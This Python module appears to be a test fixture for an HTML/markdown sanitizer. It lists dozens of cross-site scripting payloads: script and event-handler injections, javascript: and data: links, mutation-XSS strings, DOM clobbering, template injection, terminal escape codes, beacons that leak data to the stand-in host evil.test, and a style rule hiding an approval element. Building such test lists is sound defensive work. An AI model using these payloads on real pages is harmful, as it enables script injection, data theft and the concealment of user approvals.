"""Texts that try to become script, style, markup or a request in the page: one of each kind that is known to us.

Each would set `window.__p`, or ask a server on evil.test, if any of it were ever more than text.
"""

from __future__ import annotations

SET = "window.__p=1"
EVIL = "http://evil.test"

PLAIN = [
    f"<script>{SET}</script>",
    f"<ScRiPt >{SET}</sCrIpT >",
    f"<script src={EVIL}/x.js></script>",
    f"<scr<script>ipt>{SET}</scr</script>ipt>",
    f'"><script>{SET}</script>',
    f"'--></style></script><script>{SET}</script>",
    f"<img src=x onerror={SET}>",
    f"<img src={EVIL}/leak.png>",
    f"<img/src='x'/onerror='{SET}'>",
    f"<img src=x:x onerror\n=\n{SET}>",
    f"<img srcset='{EVIL}/a 1x'>",
    f"<image href={EVIL}/a onerror={SET}>",
    f"<body onload={SET}>",
    f"<div onpointerrawupdate={SET} style='position:fixed;inset:0'>cover</div>",
    f"<details open ontoggle={SET}>x</details>",
    f"<input autofocus onfocus={SET}>",
    f"<select autofocus onfocus={SET}>",
    f"<video src={EVIL}/v onerror={SET}><source onerror={SET}></video>",
    f"<audio src=x onerror={SET}>",
    f"<marquee onstart={SET}>x</marquee>",
    f"<style>@import '{EVIL}/x.css';*{{background:url({EVIL}/x)}}</style>",
    f"<style>.paws-approval{{display:none}}</style><link rel=stylesheet href={EVIL}/x.css>",
    f"<div style='background:url({EVIL}/x)'>styled</div>",
    f'<p style="width:expression({SET})">old</p>',
    f"<iframe src=javascript:parent.{SET}></iframe>",
    f"<iframe srcdoc='<script>parent.{SET}</script>'></iframe>",
    f"<object data={EVIL}/x></object><embed src={EVIL}/x>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}/>",
    f"<form action={EVIL}><button>send</button><input name=attributes></form>",
    f"<button formaction=javascript:{SET}>press</button>",
    f"<link rel=prefetch href={EVIL}/p><link rel=dns-prefetch href={EVIL}>",
    f"<template><img src=x onerror={SET}></template>",
    f"<portal src={EVIL}></portal><fencedframe></fencedframe>",
]
SVG_AND_MATHML = [
    f"<svg onload={SET}>",
    f"<svg/onload={SET}>",
    f"<svg><script>{SET}</script></svg>",
    f"<svg><a xlink:href=javascript:{SET}><text x=20 y=20>x</text></a></svg>",
    f"<svg><animate onbegin={SET} attributeName=x dur=1s></svg>",
    f"<svg><set attributeName=href to=javascript:{SET}></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={SET}></svg>#x'></svg>",
    f"<svg><foreignObject><iframe src=javascript:{SET}></foreignObject></svg>",
    f"<svg><style>@import '{EVIL}/x.css'</style></svg>",
    f"<math href=javascript:{SET}>x</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{SET}>x</maction></math>",
]
MUTATED = [
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={SET}&gt;'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={SET}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={SET}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={SET}>",
    f"<listing>&lt;img onerror={SET} src=x&gt;</listing>",
    f"<!--><img src=x onerror={SET}>-->",
    f"<![CDATA[><img src=x onerror={SET}>]]>",
    f"<?xml version='1.0'?><x xmlns:xlink='a' onload={SET}>",
    f"<textarea></textarea><img src=x onerror={SET}>",
    f"<title></title><img src=x onerror={SET}>",
    f"<xmp><p title='</xmp><img src=x onerror={SET}>'>",
    f"\u003cimg src=x onerror={SET}\u003e&lt;img src=x onerror={SET}&gt;&#60;script&#62;{SET}&#60;/script&#62;",
]
LINKS = [
    f"[x](javascript:{SET})",
    f"[x](JaVaScRiPt:{SET})",
    f"[x](java&#115;cript:{SET})",
    f"[x](&#x6A;avascript:{SET})",
    f"[x](\x01javascript:{SET})",
    f"[x](<java\tscript:{SET}>)",
    f"[x](<java\nscript:{SET}>)",
    f"[x](javascript&colon;{SET})",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wPTE8L3NjcmlwdD4=)",
    f"[x](vbscript:{SET})",
    "[x](file:///etc/passwd)",
    "[x](blob:null/1)",
    "[x](/api/terminals)",
    "[x](//evil.test/x)",
    "[x](\\\\evil.test/x)",
    f"[x]({EVIL} \"' onmouseover={SET} '\")",
    f"[x]({EVIL}'onmouseover={SET})",
    f"<javascript:{SET}>",
    f"![x]({EVIL}/leak?secret)",
    f"![x](data:image/svg+xml,<svg onload={SET}>)",
    f"![x](javascript:{SET})",
    f"[![x]({EVIL}/x.png)]({EVIL})",
    f"[ref]: javascript:{SET}\n\n[ref] ![ref]",
    f"| a |\n|--|\n| <img src=x onerror={SET}> [x](javascript:{SET}) |",
    f'```html\n<script>{SET}</script>\n```\n``` "><img src=x onerror={SET}>\ncode\n```',
]
CLOBBERING = [
    "<a id=defaultView name=body>clobber</a><a id=document></a><img name=getElementById>",
    "<form id=parentNode><input name=childNodes></form>",
    "<a id=paws-app></a><a id=__proto__></a>",
    "[x](https://x.example){#id .paws-approval onclick=1}",
]
CODES = [
    "{{constructor.constructor('window.__p=1')()}}",
    "${window.__p=1}",
    "<%= window.__p=1 %>",
    f"javascript:/*--></title></style></textarea></script><svg onload='+/\"/+/onmouseover=1/+/[*/[]/+{SET}//'>",
    f"\x1b]8;;javascript:{SET}\x07click\x1b]8;;\x07",
    f"\x1b[31m<img src=x onerror={SET}>\x1b[0m",
    f"\u202e\u2066<img src=x onerror={SET}>\u2069",
    f"\ud83d<img src=x onerror={SET}>".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
]

HOSTILE = [*PLAIN, *SVG_AND_MATHML, *MUTATED, *LINKS, *CLOBBERING, *CODES]
